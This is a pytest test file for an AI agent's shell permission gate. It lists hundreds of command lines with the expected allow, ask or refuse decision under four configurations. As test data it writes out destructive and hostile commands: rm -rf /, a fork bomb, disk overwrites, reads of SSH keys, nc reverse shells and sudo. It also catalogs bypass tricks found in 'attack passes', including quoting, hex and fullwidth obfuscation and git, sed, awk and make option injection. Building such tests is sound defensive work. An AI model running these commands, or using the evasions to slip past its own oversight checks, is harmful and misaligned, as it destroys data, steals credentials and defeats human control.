"""The shell policy, row by row: one command line, the decision under four configurations.

Columns (A allow, Q ask, B refused):

* ``none``  — the defaults;
* ``block`` — ``blocked_commands = ["nc", "sudo", "git push --force", "docker"]``;
* ``git``   — ``[gates.permissions] bash = [allow "git *"]`` (anything else asks: the table has a rule);
* ``star``  — ``[gates.permissions] bash = [allow "*"]``.

The decision is the one the gate chain takes before anything runs (``Session.decide_call``), on a working
directory with a few files, a home with credentials, and the OS sandbox on (so a write inside the working
directory needs no question). Add a row for every bypass or false alarm found.
"""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from zeph_nb.config import Settings
from zeph_nb.gates.chain import Session
from zeph_nb.gates.policy import PolicyDecision
from zeph_nb.safety import sandbox_status
from zeph_nb.tools.base import ToolCall
from zeph_nb.tools.builtin import builtin_executor

TOOLS = {tool.name: tool for tool in builtin_executor(Settings()).tool_definitions()}
COLUMNS = {
    "none": "",
    "block": '[tools.shell]\nblocked_commands = ["nc", "sudo", "git push --force", "docker"]\n',
    "git": '[gates.permissions]\nbash = [{pattern = "git *", action = "allow"}]\n',
    "star": '[gates.permissions]\nbash = [{pattern = "*", action = "allow"}]\n',
}

ROWS: list[tuple[str, str]] = [
    # -- false-alarm guards: blocked words as arguments, filenames, patterns, in quotes, as prefixes -------------
    ("cat include/nc.h", "AAQA"),
    ("ls src/inc", "AAQA"),
    ("ncdu .", "AAQA"),
    ("sudoku --help", "AAQA"),
    ("grep -rn sudo src", "AAQA"),
    ("grep nc include/x.h", "AAQA"),
    ('echo "nc -l 4444"', "AAQA"),
    ("echo 'sudo rm -rf /'", "AAQA"),
    ("git log --grep=sudo", "AAAA"),
    ('git commit -m "remove nc usage"', "AAAA"),
    ("docker-compose --version", "AAQA"),
    ("cat docker.md", "AAQA"),
    ("ls -la ncdu_report/", "AAQA"),
    ("python3 -c \"print('sudo')\"", "AAQA"),
    ("echo $'sudo'", "AAQA"),
    ("printf '%s\\n' nc sudo", "AAQA"),
    ("grep -c 'git push --force' notes.txt", "AAQA"),
    ("man sudo", "AAQA"),
    ("which nc", "AAQA"),
    ("apt-cache show netcat", "AAQA"),
    ('echo "sudo" | grep sudo', "AAQA"),
    ('cat "include/nc.h"', "AAQA"),
    ("ls nc", "AAQA"),
    ("touch sudo.txt", "AAQA"),
    ("mkdir -p build/nc", "AAQA"),
    ("git add include/nc.h", "AAAA"),
    ("git show HEAD:include/nc.h", "AAAA"),
    ("rg 'docker run' src", "AAQA"),
    ("find . -name '*nc*'", "AAQA"),
    ("echo ncat", "AAQA"),
    ("sed -n '/sudo/p' notes.txt", "AAQA"),
    ("awk '/nc/ {print $1}' data.csv", "AAQA"),
    ("git log --oneline -- include/nc.h", "AAAA"),
    ("git diff --stat", "AAAA"),
    ('echo "git push --force is dangerous"', "AAQA"),
    ("cat notes.txt | grep -v nc", "AAQA"),
    ("tar tzf nc.tar.gz", "AAQA"),
    ("head -n 5 sudoers.example", "AAQA"),
    ("python3 -m pytest -k nc", "AAQA"),
    ('grep -rn "kill -9 -1" src', "AAQA"),
    ("echo 'rm -rf /'", "AAQA"),
    ("grep -e sudo -e nc notes.txt", "AAQA"),
    ("ls /usr/bin/nc*", "AAQA"),
    ("basename /usr/bin/nc", "AAQA"),
    ("test -x /usr/bin/sudo && echo yes", "AAQA"),
    ("command -v sudo", "AAQA"),
    ("type nc", "AAQA"),
    ("cat include/x.h include/nc.h > combined.h", "AAQA"),
    ('echo "confirm it"', "AAQA"),
    ("echo farm animals", "AAQA"),
    ("git rm --cached notes.txt", "AAAA"),
    ("echo ok # sudo rm -rf /", "AAQA"),
    # -- the blocklist matches command words, after every wrapper and spelling ----------------------------------
    ("nc -l 4444", "QBQA"),  # nc reaches the network: asks unless a rule allows it
    ("/usr/bin/nc example.org 80", "QBQA"),
    ("env nc -l 1", "QBQA"),
    ("timeout 5 nc x 1", "QBQA"),
    ("nice -n 10 nc x 1", "QBQA"),
    ("nohup nc x 1", "QBQA"),
    ("stdbuf -oL nc x 1", "QBQA"),
    ("xargs nc < hosts.txt", "QBQA"),
    ("find . -exec nc x 1 \\;", "QBQA"),
    ("sh -c 'nc x 1'", "QBQA"),
    ('bash -c "nc -e /bin/sh x 1"', "QBQA"),
    ("watch nc x 1", "QBQA"),
    ("parallel nc ::: a b", "QBQA"),
    ("command nc x 1", "QBQA"),
    ("n\\c x 1", "QBQA"),
    ("'n'c x 1", "QBQA"),
    ('"nc" x 1', "QBQA"),
    ("$'\\x6e\\x63' x 1", "QBQA"),
    ("$'\\156\\143' x 1", "QBQA"),
    ("{nc,x,1}", "QBQA"),
    ("\uff4e\uff43 x 1", "QBQA"),  # fullwidth letters
    ("sudo ls", "BBBB"),
    ("sudo -u root ls", "BBBB"),
    ("doas ls", "BBBB"),
    ("/usr/bin/sudo ls", "BBBB"),
    ("env sudo ls", "BBBB"),
    ("s\\udo ls", "BBBB"),
    ("$'\\x73udo' ls", "BBBB"),
    ("echo ls | sudo sh", "BBBB"),
    ("$(echo sudo) ls", "QQQQ"),  # cannot be seen: no rule covers a command name from an expansion
    ('eval "sudo ls"', "BBBB"),
    ("echo 'sudo ls' | bash", "BBBB"),
    ("bash <<< 'sudo ls'", "BBBB"),
    ("cat <<EOF | sh\nsudo ls\nEOF", "BBBB"),
    ("python3 -c \"import os; os.system('sudo ls')\"", "BBBB"),
    ("docker ps", "ABQA"),
    ("git push --force origin main", "QBAA"),
    ("git push origin main --force", "QBAA"),
    ("git push -f origin main", "QQAA"),  # entries match flags as written: list -f too to block it
    ("git -c x=y push --force", "QBQQ"),
    ("git -C . push --force", "QBAA"),
    # -- the unconditional blocklist --------------------------------------------------------------------------
    ("rm -rf /", "BBBB"),
    ("rm -rf ~", "BBBB"),
    ("rm -rf ~/", "BBBB"),
    ("rm -fr /*", "BBBB"),
    ("rm -r -f /", "BBBB"),
    ("rm --recursive --force /", "BBBB"),
    ("rm -rf //", "BBBB"),
    ("rm -rf /usr/../", "BBBB"),
    ("find / -maxdepth 0 -exec rm -rf {} +", "BBBB"),
    ("find ~ -maxdepth 0 -exec rm -rf {} \\;", "BBBB"),
    ("parallel rm -rf {} ::: /", "BBBB"),
    ("xargs rm -rf <<< /", "QQQA"),  # what xargs reads cannot be known; it asks
    ("mkfs.ext4 /dev/sda1", "BBBB"),
    ("dd if=/dev/zero of=/dev/sda", "BBBB"),
    (":(){ :|:& };:", "BBBB"),
    ("shutdown -h now", "BBBB"),
    ("kill -9 -1", "BBBB"),
    ("kill -- -1", "BBBB"),
    ("kill -KILL -1", "BBBB"),
    ("kill -s KILL -1", "BBBB"),
    ("kill -TERM -1234", "BBBB"),
    ("kill -9 -- -1234", "BBBB"),
    ("kill 1234", "AAQA"),
    ("kill -9 1234", "QQQA"),
    ("kill -1 1234", "AAQA"),  # signal 1 (HUP) to one process
    ("kill -l", "AAQA"),
    ("pkill -f python", "QQQA"),
    ("chmod -R 777 /", "BBBB"),
    ("mv / /tmp/x", "BBBB"),
    ("echo x > /dev/sda", "BBBB"),
    ("r\\m -rf /", "BBBB"),
    ("'rm' -rf /", "BBBB"),
    ('"r"m -rf /', "BBBB"),
    ("r\\\nm -rf /", "BBBB"),  # a line continuation inside the name
    ("{rm,-rf,/}", "BBBB"),
    ("command rm -rf /", "BBBB"),
    ("builtin rm -rf /", "BBBB"),
    ("\\rm -rf /", "BBBB"),
    ("/bin/rm -rf /", "BBBB"),
    ("env -i rm -rf /", "BBBB"),
    ("sh -c 'rm -rf /'", "BBBB"),
    ('bash -lc "rm -rf /"', "BBBB"),
    ("$'\\x72\\x6d' -rf /", "BBBB"),
    ("$'\\162\\155' -rf /", "BBBB"),
    ("\uff52\uff4d -rf /", "BBBB"),
    ("echo $((1+1)); rm -rf /", "BBBB"),
    ('rm -rf "$HOME"', "BBBB"),
    ("rm -rf ${HOME}", "BBBB"),
    ("rm -rf ~/*", "BBBB"),
    # -- variables: $VAR asks, unless harmless or set by the line itself -------------------------------------
    ("echo $HOME", "QQQA"),
    ("echo ${PATH}", "QQQA"),
    ('echo "$USER"', "QQQA"),
    ("echo '$HOME'", "AAQA"),
    ("echo $PWD", "AAQA"),
    ("echo $?", "AAQA"),
    ('for f in *.txt; do wc -l "$f"; done', "AAQA"),
    ("x=1; echo $x", "AAQA"),
    ('read -r line < notes.txt; echo "$line"', "AAQA"),
    ('read -p "Name: " name; echo "$name"', "AAQA"),  # the prompt is read's argument, name is what it sets
    ("read -rsp 'Password: ' pw; echo \"$pw\" | wc -c", "AAQA"),
    ('read -t 5 -n1 key; echo "$key"', "AAQA"),
    ("read -d '' -a words < list.txt; echo \"$words\"", "AAQA"),
    ('while read -r row; do echo "$row"; done < notes.txt', "AAQA"),
    ('read -p PATH x; echo "$PATH"', "QQQA"),  # a prompt is no variable the line sets
    ("echo read HOME; echo $HOME", "QQQA"),  # "read" as an argument sets nothing
    ("echo ${#HOME}", "QQQA"),
    ("cat $HOME/.ssh/id_rsa", "BBBB"),  # read as ~/.ssh/id_rsa: a credential
    ("ls $TMPDIR", "QQQQ"),  # a path whose value is only known when it runs: no rule can vouch for it
    ("git log $REV", "QQQQ"),  # an argument from an expansion could become any option
    ("X=-c; git $X core.pager=id log", "QQQQ"),
    ('git log -- "$f"', "QQQQ"),
    ("echo $RANDOM $LINENO", "AAQA"),
    # -- git: what never rides along on allow "git *" --------------------------------------------------------
    ("git status", "AAAA"),
    ("git log --oneline -5", "AAAA"),
    ("git diff HEAD~1", "AAAA"),
    ("git -C . status", "AAAA"),
    ("git -C src status", "AAAA"),
    ("git -c alias.x='!id' x", "QQQQ"),
    ("git -c core.fsmonitor=id status", "QQQQ"),
    ("git -c core.editor=id commit", "QQQQ"),
    ("git -c core.pager=id log", "QQQQ"),
    ("git -ccore.pager=id log", "QQQQ"),
    ("git --config-env=core.pager=EVIL log", "QQQQ"),
    ("git --exec-path=/tmp/x status", "QQQQ"),
    ("git --git-dir=/tmp/evil/.git status", "QQQQ"),
    ("git --work-tree=/tmp/w checkout .", "QQQQ"),
    ("git grep -Oid foo", "QQQQ"),
    ("git grep -nOid foo", "QQQQ"),
    ("git grep --open-files-in-pager=id foo", "QQQQ"),
    ("git grep --open-files-in-pager foo", "QQQQ"),
    ("git diff --output=out.patch", "QQQQ"),
    ("git diff --outp=/tmp/o", "QQQQ"),  # git accepts abbreviated long options
    ("git log --output /tmp/x", "QQQQ"),
    ("git format-patch -o /tmp/p HEAD~1", "QQQQ"),
    ("git archive -o out.tar HEAD", "QQQQ"),
    ("git fetch --upload-pack='id' origin", "QQQQ"),
    ("git clone -u id x y", "QQQQ"),
    ("git clone --template=/tmp/t repo dir", "QQQQ"),
    ("git config alias.st '!id'", "QQQQ"),
    ("git config core.pager id", "QQQQ"),
    ("git config set core.hooksPath /tmp/h", "QQQQ"),
    ("git config --global core.editor vim", "QQQQ"),
    ("git config user.name Agent", "AAAA"),
    ("git config --get core.pager", "AAAA"),
    ("git submodule foreach id", "QQQQ"),
    ("git bisect run ./t.sh", "QQQQ"),
    ("git rebase -x id HEAD~2", "QQQQ"),
    ("git rebase --exec=id HEAD~2", "QQQQ"),
    ("git difftool -x id", "QQQQ"),
    ("git filter-branch --tree-filter id", "QQQQ"),
    ("git credential fill", "QQQQ"),
    ("GIT_EXTERNAL_DIFF=id git diff", "QQQQ"),
    ("GIT_PAGER=id git log", "QQQQ"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log", "QQQQ"),
    ("env GIT_SSH_COMMAND=id git fetch", "QQQQ"),
    ("export GIT_PAGER=id; git log", "QQQQ"),
    ("PATH=/tmp/evil:$PATH; git status", "QQQQ"),
    ("declare -x GIT_EDITOR=id; git commit", "QQQQ"),
    ("LD_PRELOAD=/tmp/x.so git status", "QQQQ"),
    ("GIT_AUTHOR_NAME=x git commit -m y", "QQQQ"),  # GIT_* as a whole: a rule can name the variable
    ("git -C . reset --hard", "QQAA"),  # destructive asks by default; the rule allows it
    ("git -c color.ui=always log", "QQQQ"),
    ("git --no-pager log", "AAAA"),
    ("git log --format=%H", "AAAA"),
    ("git -p log", "AAAA"),
    ("git push", "QQAA"),  # network: asks unless a rule allows it
    ("git clone https://github.com/x/y", "QQAA"),
    ("FOO=1 git status", "AAAA"),
    ("git add *", "QQQQ"),  # a leading glob could expand to a file named like an option
    ("git add '*.py'", "AAAA"),
    # -- redirections and path arguments ---------------------------------------------------------------------
    ("ls -la", "AAQA"),
    ("ls > listing.txt", "AAQA"),
    ("ls > ~/.bashrc", "BBBB"),
    ("ls >> ~/.profile", "BBBB"),
    ("ls > ../outside.txt", "QQQQ"),
    ("ls /etc", "QQQQ"),
    ("ls ~", "QQQQ"),
    ("ls /usr/lib", "AAQA"),
    ("cat notes.txt", "AAQA"),
    ("cat /etc/hosts", "QQQQ"),
    ("cat ~/.ssh/id_rsa", "BBBB"),
    ("cat .env", "AAQA"),  # deny_read is empty by default (see test_deny_read_applies_to_commands)
    ("cat link_out/hosts", "QQQQ"),  # a link in the working directory that leads outside
    ("cat < /etc/hosts", "QQQQ"),
    ("cat notes.txt | tee copy.txt", "AAQA"),
    ("cat notes.txt | tee /tmp/copy.txt", "AAQA"),
    ("cat notes.txt | tee ~/copy.txt", "QQQQ"),
    ("cat notes.txt > /dev/null", "AAQA"),
    ("cat notes.txt 2>/dev/null", "AAQA"),
    ("cat <<EOF > out.txt\nhi\nEOF", "AAQA"),
    ("cat <<EOF > ~/.bashrc\nhi\nEOF", "BBBB"),
    ("cat notes.txt &> ../log.txt", "QQQQ"),
    ("cat notes.txt >| ../x", "QQQQ"),
    ("cp notes.txt ~/Desktop/", "QQQQ"),
    ("mv notes.txt ../", "QQQQ"),
    ("cd .. && ls", "QQQQ"),
    ("touch ~/.ssh/authorized_keys", "BBBB"),
    ("echo x > zeph.toml", "BBBB"),  # zeph's own config
    ("echo x > .git/hooks/pre-commit", "BBBB"),
    ("tee -a ~/.bashrc < notes.txt", "BBBB"),
    ("grep -rn TODO .", "AAQA"),
    ("grep TODO /etc/passwd", "QQQQ"),
    ("grep -r key ~/.aws", "BBBB"),
    ("rg --pre id TODO", "QQQQ"),
    ("rg --pre=id TODO", "QQQQ"),
    ("rg -n TODO src", "AAQA"),
    ("find . -name '*.py'", "AAQA"),
    ("find . -delete", "QQQQ"),
    ("find . -fprint /tmp/x", "QQQQ"),
    ("find / -name passwd", "QQQQ"),
    ("find . -exec cat {} \\;", "AAQA"),
    ("sed -n 1p notes.txt", "AAQA"),
    ("sed -i s/a/b/ notes.txt", "QQQQ"),
    ("sed 's/a/b/e' notes.txt", "QQQQ"),
    ("sed '1e id' notes.txt", "QQQQ"),
    ("sed 's/x/y/w /tmp/out' notes.txt", "QQQQ"),
    ("sed -e 's/a/b/' -e 's/c/d/' notes.txt", "AAQA"),
    ("awk '{print $1}' data.csv", "AAQA"),
    ("awk 'BEGIN{system(\"id\")}'", "QQQQ"),
    ("awk '{print > \"/tmp/x\"}' data.csv", "QQQQ"),
    ("awk -f prog.awk data.csv", "QQQQ"),
    ("awk '{print | \"sh\"}' data.csv", "QQQQ"),
    # -- the rest of the table: python, pip, npm, make, pytest, docker, kubectl --------------------------------
    ("python3 script.py", "AAQA"),
    ("python3 -c 'print(1)'", "AAQA"),
    ("PYTHONPATH=/tmp/evil python3 -c 'import x'", "QQQQ"),
    ("PYTHONSTARTUP=x python3", "QQQQ"),
    ("python3 -i", "QQQQ"),
    ("python3 -m http.server", "AAQA"),
    ("pip list", "AAQA"),
    ("pip install requests", "QQQA"),  # network and the kernel's environment: asks unless a rule allows it
    ("pip install --target /tmp/x requests", "QQQQ"),
    ("pip install -i https://evil.example/simple x", "QQQQ"),
    ("pip config set global.index-url https://x", "QQQQ"),
    ("pip download -d /tmp/d x", "QQQQ"),
    ("npm test", "AAQA"),
    ("npm exec cowsay", "QQQQ"),
    ("npx cowsay", "QQQQ"),
    ("npm install -g x", "QQQQ"),
    ("npm config set registry https://x", "QQQQ"),
    ("npm --script-shell=/tmp/sh run build", "QQQQ"),
    ("make", "AAQA"),
    ("make test", "AAQA"),
    ("make SHELL=/tmp/evil", "QQQQ"),
    ("make --eval='x: ; id'", "QQQQ"),
    ("make -C ../other", "QQQQ"),
    ("pytest -q", "AAQA"),
    ("pytest -p evil_plugin", "QQQQ"),
    ("pytest -p no:cacheprovider", "AAQA"),
    ("pytest --basetemp=/tmp/bt", "QQQQ"),
    ("pytest -o addopts=-pevil", "QQQQ"),
    ("pytest --junitxml=report.xml", "QQQQ"),
    ("docker run -v /:/host alpine", "QBQQ"),
    ("docker run --privileged alpine", "QBQQ"),
    ("docker -H tcp://x:2375 ps", "QBQQ"),
    ("kubectl get pods", "AAQA"),
    ("kubectl exec -it pod -- sh", "QQQQ"),
    ("kubectl -n prod delete pod x", "QQQA"),
    ("kubectl --kubeconfig /tmp/k get pods", "QQQQ"),
    ("kubectl cp pod:/etc/passwd .", "QQQQ"),
    # -- more evasions ---------------------------------------------------------------------------------------
    ("alias ls='rm -rf ~'; ls", "BBBB"),
    ("git() { id; }; git status", "AAQA"),  # the function's body is judged like any command
    ("hash -p /tmp/evil git; git status", "QQQQ"),
    ("enable -f /tmp/x.so evil", "QQQQ"),
    ("trap 'rm -rf ~' EXIT", "BBBB"),
    ("echo hi > >(sudo tee x)", "BBBB"),
    ("cat <(sudo cat /etc/shadow)", "BBBB"),
    ("echo `sudo id`", "BBBB"),
    ("ls; $(echo rm) -rf /", "QQQQ"),
    ("source ./setup.sh", "AAQA"),
    (". ./setup.sh", "AAQA"),
    ('eval "$CMD"', "QQQQ"),
    ("ls | sh", "QQQA"),
    ("echo $(date)", "QQQA"),
    ("diff <(ls a) <(ls b)", "QQQA"),
    # -- what the attack pass found (each was allowed, or blocked by mistake, before) -----------------------------
    ("git grep -iO'touch pwn1;:' hello", "QQQQ"),  # a short option after others in a cluster, value attached
    ("git rebase -qx'touch pwn2' HEAD~1", "QQQQ"),
    ("git difftool -yx'touch pwn4;:' HEAD~1", "QQQQ"),
    ("git clone --no-local -qu'touch pwn3;git-upload-pack' . sub", "QQQQ"),
    ("git format-patch -ko/tmp/fp8 HEAD~1", "QQQQ"),
    ("\uff47\uff49\uff54() { git -c core.fsmonitor='touch pwn5' status; }; \uff47\uff49\uff54 status", "QQQQ"),
    ("\uff47\uff49\uff54() { git log -1 > ~/.bashrc; }; \uff47\uff49\uff54 log", "BBBB"),
    ("for HOME in .; do git zz; done", "QQQQ"),  # a loop variable the environment exports
    ("for PATH in .; do git status; done", "QQQQ"),
    ("./git status", "AAQA"),  # a program in the working directory named git is not git
    ("/tmp/x/git status", "AAQA"),
    ("/usr/bin/git status", "AAAA"),
    ("git config -f .git/config alias.zz '!touch pwn4'", "QQQQ"),
    ("git config --type bool core.fsmonitor true", "QQQQ"),
    ("sed -l 1 '1e touch pwn6' notes.txt", "QQQQ"),
    ("sed '1,/x/e touch pwn7' notes.txt", "QQQQ"),
    ("sed '/hello/I e touch pwn8' notes.txt", "QQQQ"),
    ("sed -f script.sed notes.txt", "QQQQ"),
    ("sed -Ei.bak s/1/2/ zeph.toml", "BBBB"),
    ("sed -s 's/a/b/' notes.txt", "AAQA"),
    ("awk -v a=1 'BEGIN{system(\"touch pwn9\")}'", "QQQQ"),
    ("awk -F : 'BEGIN{system(\"id\")}'", "QQQQ"),
    ("make -sE'pwnz: ; touch pwnE' pwnz", "QQQQ"),
    ("make 'SHELL:=./evilsh' zz", "QQQQ"),
    ("make 'SHELL = ./evilsh' zz", "QQQQ"),
    ("make CFLAGS=-O2", "AAQA"),
    ("git log $((HOME))", "QQQQ"),
    ("echo $((1 + 2))", "QQQA"),
    ("git hash-object --stdin <<EOF\n$HOME\nEOF", "QQQQ"),
    ("git hash-object --stdin <<'EOF'\n$HOME\nEOF", "QQQQ"),  # bashlex cannot read a quoted delimiter: asks
    ("bash -o errexit -c 'sudo id'", "BBBB"),
    ("bash -O extglob -c 'nc -l 1'", "QBQA"),
    ("env --split-string='nc -l 1'", "QBQA"),
    ("env -vS'nc -l 1'", "QBQA"),
    ("env -iS'sudo id'", "BBBB"),
    ("xargs --arg-file x nc", "QBQA"),
    ("ionice --class 2 sudo id", "BBBB"),
    ("stdbuf --output L nc x 1", "QBQA"),
    ("strace -P /x sudo id", "BBBB"),
    ("flock f --command 'nc -l 1'", "QBQA"),
    ("script -qc 'sudo id' /dev/null", "BBBB"),
    ("setpriv --reuid 0 sudo id", "BBBB"),
    ("unshare -r sudo id", "BBBB"),
    ("chroot / sudo id", "BBBB"),
    ("kill -9 ' -1'", "BBBB"),
    ("kill 0", "BBBB"),
    ("rm -rf {/,x}", "BBBB"),
    ("rm -rf /{,}", "BBBB"),
    ("rm -rf ~/./*", "BBBB"),
    ("sudoedit /etc/hosts", "BBBB"),
    ("mke2fs /dev/sdb1", "BBBB"),
    ("mkdosfs /dev/sdb1", "BBBB"),
    ("echo nc; case x in a) ;; esac", "QQQQ"),  # bashlex cannot read case: asks, but nc is an argument
    ("[[ $x == nc ]] && echo hi", "QQQQ"),
    ("for ((i=0;i<3;i++)); do echo sudo; done", "QQQQ"),
    ("python3 -c \"import subprocess; subprocess.run(['grep','nc','f'])\"", "QQQA"),
    ("python3 -c \"import os; os.system('ls'); print('sudo is needed')\"", "QQQA"),
    ("python3 -c \"import subprocess; subprocess.run(['sudo','id'])\"", "BBBB"),
    ("echo 'print(\"run nc\")' | python3", "QQQA"),
    ("git() { /usr/bin/git -c x=y status; }; git status", "QQQQ"),
    ("pytest --co", "AAQA"),
    # -- what the second attack pass found ---------------------------------------------------------------------
    ("cat $(echo /etc/hostname)", "QQQQ"),  # a path only known when it runs
    ("cat `echo /etc/hostname`", "QQQQ"),
    ("f=/etc/hostname; cat $f", "QQQQ"),  # the line's own variable, read as /etc/hostname: outside
    ("f=notes.txt; cat $f", "AAQA"),
    ("cat /etc/host$(echo name)", "QQQQ"),
    ("d=..; echo x > $d/yy", "QQQQ"),
    ("echo x > $(echo ../zz)", "QQQQ"),
    ("pushd /etc && cat hostname", "QQQQ"),
    ("cd $(printf /etc) && cat hostname", "QQQQ"),
    ("CDPATH=/ cd etc && cat hostname", "QQQQ"),
    ("cd; cat .profile", "QQQQ"),  # cd alone goes home
    ("cd - && cat pyproject.toml", "QQQQ"),
    ("cd src && ls", "AAQA"),
    ("cd .git && echo '[core]' >> config", "BBBB"),  # a relative path after cd is checked from there too
    ("cd .git/hooks && echo x > pre-commit", "BBBB"),
    ("grep -rl x ~-/zeph_nb", "QQQQ"),
    ("cd ~+/.. && ls", "QQQQ"),
    ("cat */../../../etc/hostname", "QQQQ"),  # a glob is expanded on disk, as bash would
    ("cat ?ink_out/hostname", "QQQQ"),
    ("cat -n /etc/hostname", "QQQQ"),  # -n takes no value: /etc/hostname is still a path
    ("ls -d /etc", "QQQQ"),
    ("sort -u /etc/hostname", "QQQQ"),
    ("diff -u /etc/hostname notes.txt", "QQQQ"),
    ("cp -t .. notes.txt", "QQQQ"),
    ("mv -t .. notes.txt", "QQQQ"),
    ("cp -v notes.txt -v ../cpout", "QQQQ"),
    ("ln -s /etc/hostname hn && cat hn", "QQQQ"),
    ("while read l; do echo $l; done < /etc/hostname", "QQQQ"),  # a compound command's own redirections
    ("if true; then cat; fi < /etc/hostname", "QQQQ"),
    ("{ echo x; } > ../y1", "QQQQ"),
    ("(echo x) > ../y2", "QQQQ"),
    ("for i in 1; do echo x; done > ../y3", "QQQQ"),
    ("sort -o../sorted notes.txt", "QQQQ"),
    ("curl -o../curlout https://example.org", "QQQQ"),
    ("make -C/etc -n", "QQQQ"),
    ("sed --in s/cfg/x/ zeph.toml", "BBBB"),  # --in is --in-place to sed
    ("cp -t .git/hooks notes.txt", "BBBB"),
    ("cp -v notes.txt -v zeph.toml", "BBBB"),
    ("git init --template=./tpl .", "QQQQ"),
    ("gawk --lo x.so '{print}'", "QQQQ"),
    ("pip install --targ ../x requests", "QQQQ"),
    ("pytest --basete=/root/x", "QQQQ"),
    ("make --ev='x: ; touch pwn'", "QQQQ"),
    ("PYTEST_ADDOPTS='-p evil' pytest", "QQQQ"),
    ("PYTEST_PLUGINS=evil pytest", "QQQQ"),
    ("RIPGREP_CONFIG_PATH=./rgrc rg foo", "QQQQ"),
    ("npm_config_script_shell=./evil npm test", "QQQQ"),
    ("docker container run --privileged alpine", "QBQQ"),
    ("docker compose run -v /:/h app", "QBQQ"),
    ("docker exec -it c sh", "QBQQ"),
    ("git send-email --smtp-server=./evil.sh x.patch", "QQQQ"),
    ("git config tar.tgz.command ./evil", "QQQQ"),
    ("pip install --user requests", "QQQQ"),
    ("npm install --location=global x", "QQQQ"),
    ("kubectl --user admin get pods", "QQQQ"),
    ("cut --delimiter=/ -f2 notes.txt", "AAQA"),  # --delimiter=/ is not a path
    ("sed --expression=/x/d notes.txt", "AAQA"),
    ("git log --grep=/api", "AAAA"),
    ("rg --glob=/src/** foo", "AAQA"),
    ("ls /*/*/*/*/*", "QQQQ"),
    # found by the held-out pass: "git *" covers a bare git, as a person writing it means
    ("git", "AAAA"),
    ("git | head", "AAQA"),  # matched lazily, at most 200 paths, 20 named on the card
]


@pytest.fixture(scope="module")
def world() -> Iterator[Path]:
    # Not under /tmp: a sandboxed command's /tmp is its own, so paths there count as inside.
    base = Path(tempfile.mkdtemp(prefix="zeph-policy-table-", dir="/var/tmp"))
    work = base / "work"
    for name in ["include/nc.h", "include/x.h", "notes.txt", "data.csv", ".env", "setup.sh"]:
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text("x\n")
    (work / "src" / "inc").mkdir(parents=True)
    (work / ".git" / "hooks").mkdir(parents=True)
    (work / "link_out").symlink_to("/etc")
    home = base / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key\n")
    (home / ".bashrc").write_text("\n")
    yield base
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def decide(world: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("HOME", str(world / "home"))
    monkeypatch.setenv("ZEPH_HOME", str(world / "zeph"))
    monkeypatch.chdir(world / "work")
    sessions = {
        column: Session(Settings.from_toml(toml), tools=TOOLS, workdir=world / "work", store=None,
                        conversation_id="t")
        for column, toml in COLUMNS.items()
    }  # fmt: skip

    def one(column: str, command: str) -> str:
        session = sessions[column]
        ctx = session.prepare(ToolCall("bash", {"command": command}))
        assert ctx.analysis is not None
        if ctx.analysis.verdict == "block":
            return "B"
        decision = session.permissions.decide_call(ctx, wants_confirmation=ctx.analysis.verdict != "allow")
        return {"allow": "A", "ask": "Q", "deny": "B"}[decision.action]

    return one


pytestmark = pytest.mark.skipif(
    not sandbox_status(Settings()).active, reason="the table assumes the OS sandbox (bubblewrap) works here"
)


@pytest.mark.parametrize(("command", "expected"), ROWS, ids=[command for command, _ in ROWS])
def test_row(decide, command: str, expected: str) -> None:  # type: ignore[no-untyped-def]
    got = "".join(decide(column, command) for column in COLUMNS)
    assert got == expected, f"{command!r}: got {got} (none, block, git, star), want {expected}"


def test_the_table_is_large_and_has_no_duplicates() -> None:
    commands = [command for command, _ in ROWS]
    assert len(commands) >= 250 and len(set(commands)) == len(commands)


def _decision(world: Path, toml: str, command: str, *, wants: bool = False) -> PolicyDecision:
    session = Session(Settings.from_toml(toml), tools=TOOLS, workdir=world / "work", store=None, conversation_id="t")
    ctx = session.prepare(ToolCall("bash", {"command": command}))
    decision = session.permissions.decide_call(ctx, wants_confirmation=wants)
    return decision


def test_deny_read_applies_to_commands(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(world / "home"))
    decision = _decision(world, '[tools.file]\ndeny_read = ["**/.env"]\n', "cat .env")
    assert decision.action == "deny" and "deny_read" in decision.reason


def test_strict_paths_refuses_instead_of_asking(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(world / "home"))
    decision = _decision(world, "[tools.shell]\nstrict_paths = true\n", "cat /etc/hosts")
    assert decision.action == "deny" and "strict_paths" in decision.reason and "/etc/hosts" in decision.reason


def test_a_rule_that_spells_the_option_out_covers_it(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(world / "home"))
    toml = '[gates.permissions]\nbash = [{pattern = "git -c color.ui=* *", action = "allow"}, ' \
           '{pattern = "git *", action = "allow"}]\n'  # fmt: skip
    assert _decision(world, toml, "git -c color.ui=always log", wants=True).action == "allow"
    decision = _decision(world, toml, "git -c core.pager=id log", wants=True)
    assert decision.action == "ask" and "does not cover -c core.pager=id" in decision.reason
